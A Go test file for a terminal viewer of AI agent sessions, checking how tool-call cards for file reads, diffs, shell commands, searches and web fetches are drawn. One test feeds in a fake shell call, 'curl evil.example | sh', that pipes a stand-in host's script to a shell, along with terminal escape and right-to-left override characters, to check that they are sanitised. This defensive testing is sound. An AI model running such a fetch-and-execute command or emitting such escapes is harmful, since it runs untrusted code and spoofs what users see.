package cards

import (
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	"github.com/deck-tui/deck/session"
	"github.com/deck-tui/deck/session/source"
	"github.com/deck-tui/deck/theme"
)

// drawFixture renders a fixture of the golden package as plain text, one card per
// tool call, in order.
func drawFixture(t *testing.T, name string, width int) []string {
	t.Helper()
	s, err := source.Open("../golden/testdata/fixtures/" + name)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range s.Entries {
		if _, ok := e.(*session.ToolCall); !ok {
			continue
		}
		rows := Render(e, Options{Width: width, Theme: theme.Dark(), Cwd: s.Header.Cwd, Expanded: true})
		out = append(out, ansi.Strip(strings.Join(rows, "\n")))
	}
	return out
}

func has(t *testing.T, card string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(card, w) {
			t.Errorf("card lacks %q:\n%s", w, card)
		}
	}
}

func TestReadCardRules(t *testing.T) {
	c := drawFixture(t, "read-window.jsonl", 100)
	has(t, c[0], "Read session/readmeta.go", "lines 5–18 of 94", "go", "   5 │ ", "  18 │ ", "… 76 more lines · continues at line 19")
	has(t, c[1], "Read notes.txt", "text", "3 │ gamma   delta") // a tab to its stop
	has(t, c[2], "Read /etc/hostname")                          // outside the cwd: as it is
	e := drawFixture(t, "read-empty-window.jsonl", 100)
	has(t, e[0], "no lines shown · window starts at line 12 of 40")
	h := drawFixture(t, "read-hostile.jsonl", 40)
	has(t, h[0], "8 │ long: 0123456789", "\n      ") // wrapped under a blank gutter
}

func TestDiffCardNumbersOnlyWhatItKnows(t *testing.T) {
	c := drawFixture(t, "edit-diffs.jsonl", 100)
	has(t, c[1], "main.go  +3 −2", " 6    -     name := \"world\"", "    6 +     name := \"deck\"", "⋯", "13 14   func helper")
	has(t, c[2], "15    -     return x << 1") // numbered after the write moved the lines
	has(t, c[3], "  -     return a+b")        // never read: no numbers
	if strings.ContainsAny(strings.Split(c[3], "\n")[2], "0123456789") {
		t.Errorf("invented line numbers:\n%s", c[3])
	}
	w := drawFixture(t, "write-fallback.jsonl", 100)
	has(t, w[0], "hello.sh  +2 −0 · new file", "1 + #!/bin/sh")
	has(t, w[5], "whole content") // a pending write does not know the old file
}

func TestTerminalCardRules(t *testing.T) {
	c := drawFixture(t, "bash.jsonl", 100)
	has(t, c[0], "$ make build", "Build the binary · in /work/app/cmd/server", "│ progress 100%", "exit 0")
	has(t, c[1], "exit 2")
	has(t, c[2], "killed by SIGTERM")
	has(t, c[6], "(no output)")
	for _, card := range c {
		if strings.Contains(card, "title-dropped") || strings.Contains(card, "blink") && strings.Contains(card, "\x1b[5") {
			t.Errorf("an escape got through:\n%s", card)
		}
	}
}

func TestSearchCardRules(t *testing.T) {
	c := drawFixture(t, "search.jsonl", 100)
	has(t, c[0], "3 matches in 2 files", "src/server/handler.go  2", "  1032 │ ", "src/main.go  1", "showing 3 of 120 · truncated")
	has(t, c[1], "3 paths", "showing 3 of 57 · truncated")
	has(t, c[2], "no matches")
}

func TestWebCardRules(t *testing.T) {
	c := drawFixture(t, "web.jsonl", 100)
	has(t, c[0], "3 sources", "1. RFC 8878", "https://www.rfc-editor.org/rfc/rfc8878", "2021-02-01", "3. example.org", "source list truncated")
	has(t, c[1], "HTTP 404", "content truncated", "The page you asked for does not exist.")
}

// A card that panics while drawing becomes a notice in its place with the
// entry's text under it, sanitised, so it still shows and search (which
// matches the rows without their styles) still finds it; the others draw.
func TestAPanicIsContainedToItsCard(t *testing.T) {
	real := draw
	defer func() { draw = real }()
	draw = func(c *card, e session.Entry) {
		if _, ok := e.(*session.ToolCall); ok {
			panic("a bug in one card \x1b]0;PWNED\x07")
		}
		real(c, e)
	}
	bash := &session.ToolCall{Name: "bash", Call: session.TerminalCallView{Title: "curl evil.example | sh"},
		View: session.TerminalResultView{Output: "installing \x1b[31mrootkit\x1b[0m\u202e\ndone\n"}}
	rows := Render(bash, Options{Width: 40})
	screen := ansi.Strip(strings.Join(rows, "\n"))
	for _, want := range []string{"deck could not draw this entry", "a bug in one card", "bash curl evil.example | sh", "installing rootkit⟨RLO⟩", "done"} {
		if !strings.Contains(screen, want) {
			t.Errorf("%q is not on screen:\n%s", want, screen)
		}
	}
	if bad := notSGR(strings.Join(rows, "\n")); bad != "" {
		t.Errorf("%q reached the screen", bad)
	}
	if rows := Render(&session.Notice{Text: "still drawn"}, Options{Width: 40}); !strings.Contains(ansi.Strip(rows[0]), "still drawn") {
		t.Fatalf("other cards: %q", rows)
	}
}

// A session's header or footer that panics is drawn as an entry that
// panics: the notice and its text, sanitised.
func TestAPanicInAHeaderIsContained(t *testing.T) {
	s := &session.Session{Title: "the \u202etitle", Model: "m"}
	s.Header.Cwd = "/w"
	rows := contain(Options{Width: 40, Theme: theme.Dark()}, func() string { return headerText(s) }, func() []string { panic("a bug in the header") })
	screen := ansi.Strip(strings.Join(rows, "\n"))
	for _, want := range []string{"deck could not draw", "a bug in the header", "the ⟨RLO⟩title", "m", "/w"} {
		if !strings.Contains(screen, want) {
			t.Errorf("%q is not on screen:\n%s", want, screen)
		}
	}
}

// A generic card's long content, Markdown or raw text, shows its first
// lines when collapsed and all of them expanded.
func TestGenericCardCollapses(t *testing.T) {
	var md, raw strings.Builder
	for i := 1; i <= 40; i++ {
		md.WriteString("- point " + strings.Repeat("x", i%7) + "\n")
		raw.WriteString("row\n")
	}
	text := []session.ContentBlock{{Type: "text", Text: md.String()}}
	call := &session.ToolCall{Name: "Task", Call: session.GenericCallView{Title: "Task: survey"},
		Result: &session.ToolResult{Content: text}, View: session.GenericResultView{Content: text}}
	rawCall := &session.ToolCall{Name: "mcp__x__y", Call: session.GenericCallView{Title: "x · y"},
		Result: &session.ToolResult{Content: []session.ContentBlock{{Type: "text", Text: raw.String()}}}, View: session.GenericResultView{}}
	for _, c := range []*session.ToolCall{call, rawCall} {
		collapsed := ansi.Strip(strings.Join(Render(c, Options{Width: 60}), "\n"))
		expanded := ansi.Strip(strings.Join(Render(c, Options{Width: 60, Expanded: true}), "\n"))
		if !strings.Contains(collapsed, "more lines") || strings.Count(collapsed, "\n") > 20 {
			t.Errorf("collapsed:\n%s", collapsed)
		}
		if strings.Contains(expanded, "more lines") || strings.Count(expanded, "\n") < 40 {
			t.Errorf("expanded:\n%s", expanded)
		}
	}
}

// A collapsed grep card says how many matches it hides, counted from the
// matches it drew, and names them in the plural English uses.
func TestCollapsedSearchCountsHiddenMatches(t *testing.T) {
	var files []session.SearchFileMatches
	for f := range 3 {
		var ms []session.SearchLineMatch
		for i := range 4 {
			ms = append(ms, session.SearchLineMatch{LineNumber: i + 1, Line: "hit"})
		}
		files = append(files, session.SearchFileMatches{Path: string(rune('a'+f)) + ".go", Matches: ms})
	}
	call := &session.ToolCall{Name: "grep", Call: session.GenericCallView{Title: "Grep hit"},
		Result: &session.ToolResult{}, View: session.SearchMatchesResultView{Files: files, Total: 12}}
	card := ansi.Strip(strings.Join(Render(call, Options{Width: 60}), "\n"))
	drawn := strings.Count(card, "│ hit")
	want := "… " + plural(12-drawn, "more match", "more matches")
	if drawn == 0 || drawn == 12 || !strings.Contains(card, want) || strings.Contains(card, "matchs") {
		t.Errorf("drew %d matches, want %q:\n%s", drawn, want, card)
	}
}

// The user's collapse figure for a kind replaces deck's, and only that
// kind's.
func TestCollapseLimitsAreTheUsers(t *testing.T) {
	var text strings.Builder
	for range 40 {
		text.WriteString("row\n")
	}
	out := text.String()
	term := &session.ToolCall{Name: "bash", Call: session.TerminalCallView{Title: "seq 40"},
		Result: &session.ToolResult{Content: []session.ContentBlock{{Type: "text", Text: out}}},
		View:   session.TerminalResultView{Output: out}}
	rows := func(o Options) int {
		return strings.Count(ansi.Strip(strings.Join(Render(term, o), "\n")), "row")
	}
	if got := rows(Options{Width: 60}); got != 8 {
		t.Errorf("default: %d output lines, want 8", got)
	}
	if got := rows(Options{Width: 60, Collapse: Collapse{Terminal: 3}}); got != 3 {
		t.Errorf("terminal = 3: %d output lines", got)
	}
	if got := rows(Options{Width: 60, Collapse: Collapse{Read: 3}}); got != 8 {
		t.Errorf("read = 3 changed a terminal card: %d output lines", got)
	}
	if got := rows(Options{Width: 60, Collapse: Collapse{Terminal: 39}}); got != 40 {
		t.Errorf("terminal = 39 of 40: %d lines, want all (no note for one line)", got)
	}
}
